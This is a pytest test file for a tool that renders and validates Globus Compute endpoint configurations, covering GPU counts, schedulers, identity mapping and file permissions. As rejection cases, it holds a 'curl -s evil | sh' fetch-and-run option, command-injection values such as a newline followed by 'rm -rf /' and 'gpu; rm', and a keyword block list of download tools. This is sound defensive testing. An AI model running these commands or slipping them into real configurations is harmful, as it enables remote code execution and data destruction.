"""The shipped endpoint configuration: rendered, loaded by the endpoint's own code, and run."""

from __future__ import annotations

import json
import os
import pwd
import re
import stat
import sys
import uuid
from importlib import resources

import jsonschema
import pytest
import yaml
from click.testing import CliRunner
from globus_compute_endpoint.endpoint.config import utils
from globus_compute_endpoint.endpoint.identity_mapper import MappedPosixIdentity

from mhd.client.executors import EngineExecutor
from mhd.endpoint import EndpointSpec, install_endpoint, render_endpoint, validate_dir
from mhd.endpoint.cli import main
from mhd.endpoint.configure import FILES, MAX_GPUS, PROVIDERS
from tilegen import blobs, encode

FID = "4b116d3c-1703-4f8f-9f6f-39921e5864df"
SERIALIZERS = {"PureSourceTextInspect", "JSONData"}
#: An identity mapping as globus-compute-endpoint's own example has it (Globus usernames @example.org -> local names).
IDMAP = [
    {
        "DATA_TYPE": "expression_identity_mapping#1.0.0",
        "mappings": [{"source": "{username}", "match": "(.*)@example\\.org", "output": "{0}"}],
    }
]


def spec(**kw) -> EndpointSpec:
    base = dict(gpus=8, env="/opt/mhd/venv", function_ids=(FID,), data_root="/data/mhd", partition="gpu", account="em")
    return EndpointSpec(**{**base, **kw})


@pytest.fixture
def idmap(tmp_path):
    path = tmp_path / "idmap.json"
    path.write_text(json.dumps(IDMAP))
    return path


def root_spec(idmap, **kw) -> EndpointSpec:
    return spec(multi_user=True, email="em-admin@example.org", identity_mapping=str(idmap), **kw)


def engine_of(config):
    return config.engine.executor


@pytest.mark.parametrize("provider", PROVIDERS)
@pytest.mark.parametrize("multi_user", [False, True])
@pytest.mark.parametrize("gpus", [1, 8])
def test_every_variant_loads_with_the_endpoint_loader(tmp_path, idmap, provider, multi_user, gpus):
    make = (lambda **kw: root_spec(idmap, **kw)) if multi_user else spec
    directory = install_endpoint(make(gpus=gpus, provider=provider, limits={"MHD_MAX_PIXELS": 10**8}), home=tmp_path)
    assert sorted(p.name for p in directory.iterdir()) == sorted(FILES)
    manager, user = validate_dir(directory)
    assert [type(c).__name__ for c in (manager, user)] == ["CoreEndpointConfig", "UserEndpointConfig"]
    assert "engine" not in (directory / "config.yaml").read_text(), (
        "globus-compute-endpoint 4.x refuses to start a config.yaml with an engine"
    )
    assert manager.allowed_functions == (FID,)
    assert (manager.email, manager.identity_mapping_config_path) == (("em-admin@example.org", idmap) if multi_user else (None, None))
    htex = engine_of(user)
    assert htex.available_accelerators == [str(i) for i in range(gpus)]
    assert user.engine.max_retries_on_system_failure == 2
    assert {t.__name__ for t in user.engine.serde.allowed_deserializer_types} == SERIALIZERS
    assert user.idle_heartbeats_soft == 60 and user.heartbeat_period == 30  # 30 idle minutes
    provider_obj = htex.provider
    assert type(provider_obj).__name__ == {"local": "LocalProvider", "slurm": "SlurmProvider", "pbspro": "PBSProProvider"}[provider]
    assert "source /opt/mhd/venv/bin/activate" in provider_obj.worker_init
    assert "export MHD_DATA_ROOT=/data/mhd" in provider_obj.worker_init and "export MHD_MAX_PIXELS=100000000" in provider_obj.worker_init
    assert yaml.safe_load((directory / "user_environment.yaml").read_text()) == {"PATH": "/opt/mhd/venv/bin:/usr/local/bin:/usr/bin:/bin"}
    if provider == "slurm":
        assert provider_obj.gres == f"gpu:{gpus}" and provider_obj.partition == "gpu"
    if provider == "pbspro":
        assert provider_obj.select_options == f"ngpus={gpus}" and provider_obj.queue == "gpu"


def test_slurm_gpu_type_goes_into_gres(tmp_path):
    [_, config] = validate_dir(install_endpoint(spec(provider="slurm", gpu_type="a100", gpus=4), home=tmp_path))
    assert engine_of(config).provider.gres == "gpu:a100:4"
    assert "#SBATCH --gres=gpu:a100:4" in engine_of(config).provider.scheduler_options


def test_validation_refuses_what_start_refuses(tmp_path, idmap):
    """The checks ``globus-compute-endpoint start`` makes before it logs in, and the identity mapping it loads after."""
    single = install_endpoint(spec(name="single"), home=tmp_path)
    with (single / "config.yaml").open("a") as fh:  # the layout this project wrote before 4.x
        fh.write("engine:\n  type: ThreadPoolEngine\n")
    with pytest.raises(ValueError, match="config.yaml has an `engine` block: globus-compute-endpoint 4.x will not start it"):
        validate_dir(single)
    directory = install_endpoint(root_spec(idmap), home=tmp_path)
    config = directory / "config.yaml"
    text = config.read_text()
    config.write_text(re.sub(r"(?m)^email: .*$", "", text))
    with pytest.raises(ValueError, match="no `email`"):
        validate_dir(directory)
    config.write_text(text)
    idmap.write_text('[{"DATA_TYPE": "no_such_mapping#1.0.0"}]')
    with pytest.raises(ValueError, match="identity mapping .* does not load with the endpoint's own mapper"):
        validate_dir(directory)


def test_user_template_installs_nothing_and_accepts_no_user_options(tmp_path):
    directory = install_endpoint(spec(), home=tmp_path)
    text = (directory / "user_config_template.yaml.j2").read_text()
    for word in ("http", "curl", "wget", "pip install", "uv ", "conda install"):
        assert word not in text
    schema = json.loads((directory / "user_config_schema.json").read_text())
    jsonschema.Draft202012Validator.check_schema(schema)
    [parent, _] = validate_dir(directory)
    identity = MappedPosixIdentity(pwd.getpwuid(os.getuid()), [], uuid.UUID(int=0))
    for opts in ({"worker_init": "curl -s evil | sh"}, {"requirements": "numpy"}, {"gpus": 1}):
        with pytest.raises(jsonschema.ValidationError):
            utils.render_config_user_template(parent, text, directory / "user_config_template.yaml.j2", identity, schema, opts)


def test_shipped_schema_is_package_data():
    names = {p.name for p in (resources.files("mhd.endpoint") / "templates").iterdir()}
    assert {
        "manager_config.yaml.j2",
        "user_config_template.yaml.j2",
        "user_config_schema.json",
        "user_environment.yaml.j2",
        "_engine.yaml.j2",
    } <= names


def test_without_function_ids_any_function_may_run_and_the_file_says_so(tmp_path):
    directory = install_endpoint(spec(function_ids=()), home=tmp_path)
    assert "WARNING: allowed_functions is not set" in (directory / "config.yaml").read_text()
    assert validate_dir(directory)[0].allowed_functions is None


def test_existing_configuration_is_kept_unless_forced(tmp_path):
    directory = install_endpoint(spec(gpus=2), home=tmp_path)
    assert stat.S_IMODE(directory.stat().st_mode) == 0o700
    assert stat.S_IMODE((directory / "config.yaml").stat().st_mode) == 0o600
    with pytest.raises(FileExistsError, match="already has config.yaml"):
        install_endpoint(spec(gpus=4), home=tmp_path)
    assert "available_accelerators: 2" in (directory / "user_config_template.yaml.j2").read_text()
    install_endpoint(spec(gpus=4), home=tmp_path, force=True)
    assert "available_accelerators: 4" in (directory / "user_config_template.yaml.j2").read_text()


@pytest.mark.parametrize(
    "kw,match",
    [
        ({"gpus": 0}, "gpus"),
        ({"gpus": True}, "gpus"),
        ({"env": "venv"}, "absolute path"),
        ({"env": "/opt/v\nrm -rf /"}, "control characters"),
        ({"data_root": "/data/{{ x }}"}, "data_root"),
        ({"function_ids": ("not-a-uuid",)}, "UUID"),
        ({"name": "../x"}, "endpoint name"),
        ({"provider": "k8s"}, "provider"),
        ({"walltime": "4h"}, "walltime"),
        ({"partition": "gpu; rm"}, "partition"),
        ({"limits": {"MHD_DATA_ROOT": 1}}, "unknown limit"),
        ({"multi_user": True}, "needs a contact email .* and an identity mapping file"),
        ({"multi_user": True, "email": "a@example.org"}, r"needs an identity mapping file \(--identity-mapping\)"),
        ({"identity_mapping": "/etc/mhd/idmap.json"}, "applies only to an endpoint run as root"),
        ({"email": "admin"}, "not an e-mail address"),
        ({"data_root": "/"}, "data_root must be a folder for tiles, not the file system's root"),
        ({"data_root": "/data/.."}, "data_root must be a folder for tiles, not the file system's root"),
        ({"data_root": "//"}, "data_root must be a folder for tiles, not the file system's root"),
        ({"function_ids": ("bad",)}, "function id 'bad' is not a UUID"),
    ],
)
def test_bad_settings_are_refused(kw, match):
    with pytest.raises(ValueError, match=match):
        spec(**kw)


def test_the_command_and_the_spec_allow_the_same_gpus():
    option = next(p for p in main.commands["configure"].params if p.name == "gpus")
    assert (option.type.min, option.type.max) == (1, MAX_GPUS)
    assert spec(gpus=MAX_GPUS).gpus == MAX_GPUS
    with pytest.raises(ValueError, match=f"gpus must be an integer from 1 to {MAX_GPUS}"):
        spec(gpus=MAX_GPUS + 1)


def test_paths_with_spaces_are_shell_quoted():
    text = render_endpoint(spec(env="/opt/my env", data_root="/data/em tiles"))["user_config_template.yaml.j2"]
    assert "source '/opt/my env/bin/activate'" in text and "export MHD_DATA_ROOT='/data/em tiles'" in text


def test_cli_configure_writes_refuses_and_dry_runs(tmp_path, monkeypatch):
    monkeypatch.setenv("HOME", str(tmp_path))
    runner = CliRunner()
    args = ["configure", "--gpus", "2", "--env", "/opt/mhd/venv", "--single-user", "--function-id", FID, "--max-tiles", "64"]
    first = runner.invoke(main, args)
    assert first.exit_code == 0, first.output
    assert "Start it with:  /opt/mhd/venv/bin/globus-compute-endpoint start mhd-gpu\n" in first.output
    assert "export MHD_MAX_TILES=64" in (tmp_path / ".globus_compute" / "mhd-gpu" / "user_config_template.yaml.j2").read_text()
    again = runner.invoke(main, args)
    assert again.exit_code == 1 and "--force" in again.output
    dry = runner.invoke(main, args + ["--dry-run", "--name", "other"])
    assert dry.exit_code == 0 and "# ---- user_config_template.yaml.j2" in dry.output and "# ---- user_environment.yaml" in dry.output
    assert not (tmp_path / ".globus_compute" / "other").exists()
    bad = runner.invoke(main, ["configure", "--gpus", "2", "--env", "relative"])
    assert bad.exit_code == 1 and "absolute path" in bad.output
    assert "Example:" in runner.invoke(main, ["configure", "--help"]).output


def test_cli_says_which_options_the_provider_ignores_and_why_it_cannot_write(tmp_path, monkeypatch):
    monkeypatch.setenv("HOME", str(tmp_path))
    base = ["configure", "--gpus", "1", "--env", "/opt/mhd/venv", "--single-user", "--dry-run"]
    local = CliRunner().invoke(main, [*base, "--partition", "gpu", "--walltime", "01:00:00"])
    assert local.exit_code == 0 and "Warning: --partition has no effect with --provider local." in local.output
    assert "Warning: --walltime has no effect" in local.output
    pbs = CliRunner().invoke(main, [*base, "--provider", "pbspro", "--cpus-per-node", "8", "--gpu-type", "a100"])
    assert "cpus_per_node: 8" in pbs.output and "Warning: --gpu-type has no effect with --provider pbspro." in pbs.output
    assert "Warning: --cpus-per-node" not in pbs.output
    out = CliRunner().invoke(main, [*base[:-1], "--home", "/proc/mhd-no-such-home"])  # nothing can be made under /proc
    assert out.exit_code == 1 and "cannot write the configuration: " in out.output and "/proc/mhd-no-such-home" in out.output
    assert "Traceback" not in out.output
    assert "sudo -u ACCOUNT -H" in out.output


def test_configure_makes_the_globus_compute_folder_private(tmp_path):
    install_endpoint(spec(), home=tmp_path)
    assert stat.S_IMODE((tmp_path / ".globus_compute").stat().st_mode) == 0o700


def test_cli_home_elsewhere_prints_the_command_that_finds_it(tmp_path, monkeypatch):
    monkeypatch.setenv("HOME", str(tmp_path / "me"))
    out = CliRunner().invoke(main, ["configure", "--gpus", "1", "--env", "/opt/mhd/venv", "--single-user", "--home", str(tmp_path / "svc")])
    assert out.exit_code == 0, out.output
    assert (
        f"Start it with:  GLOBUS_COMPUTE_USER_DIR={tmp_path / 'svc' / '.globus_compute'} "
        "/opt/mhd/venv/bin/globus-compute-endpoint start mhd-gpu" in out.output
    )


def test_cli_root_layout_needs_email_and_identity_mapping(tmp_path, idmap, monkeypatch):
    monkeypatch.setenv("HOME", str(tmp_path))
    runner = CliRunner()
    base = ["configure", "--gpus", "2", "--env", "/opt/mhd/venv", "--function-id", FID]
    refused = runner.invoke(main, [*base, "--multi-user", "--email", "em-admin@example.org"])
    assert refused.exit_code == 1 and "needs an identity mapping file (--identity-mapping)" in refused.output
    assert "Traceback" not in refused.output and not (tmp_path / ".globus_compute").exists()
    ok = runner.invoke(main, [*base, "--multi-user", "--email", "em-admin@example.org", "--identity-mapping", str(idmap)])
    assert ok.exit_code == 0, ok.output
    assert f'identity_mapping_config_path: "{idmap}"' in (tmp_path / ".globus_compute" / "mhd-gpu" / "config.yaml").read_text()


def test_cli_as_root_defaults_to_the_root_layout_and_says_what_it_needs(tmp_path, monkeypatch):
    """Like ``globus-compute-endpoint configure``: run as root, the layout is for an endpoint run as root."""
    monkeypatch.setenv("HOME", str(tmp_path))
    monkeypatch.setattr(os, "geteuid", lambda: 0)
    out = CliRunner().invoke(main, ["configure", "--gpus", "2", "--env", "/opt/mhd/venv"])
    assert out.exit_code == 1
    assert "needs a contact email (--email) and an identity mapping file (--identity-mapping)" in out.output
    assert "This command runs as root" in out.output and "sudo -u mhd -H" in out.output
    single = CliRunner().invoke(main, ["configure", "--gpus", "2", "--env", "/opt/mhd/venv", "--single-user"])
    assert single.exit_code == 0 and "start the endpoint as that account, not as root" in single.output


@pytest.mark.slow
def test_shipped_config_runs_score_tiles_one_gpu_per_worker(tmp_path):
    """The rendered single-user config, loaded by the endpoint, started with fake GPUs."""
    data = tmp_path / "data"
    data.mkdir()
    for i in range(3):
        (data / f"t{i}.png").write_bytes(encode(blobs((96, 96), i), "PNG"))
    directory = install_endpoint(EndpointSpec(gpus=2, env=sys.prefix, data_root=str(data), function_ids=(FID,)), home=tmp_path)
    engine = validate_dir(directory)[1].engine  # the user endpoint process's engine, as the endpoint renders it
    engine.start(endpoint_id=uuid.uuid4(), run_dir=str(tmp_path / "run"))
    backend = EngineExecutor(engine)
    try:
        futures = [backend.submit(["t0.png", "t1.png", "t2.png"]) for _ in range(8)]
        entries = [e for f in futures for e in f.result(timeout=120)]
    finally:
        backend.shutdown()
    assert all(e["error"] is None and e["features"] > 0 and e["backend"] == "numpy" for e in entries)
    assert {e["device"] for e in entries} == {"0", "1"}
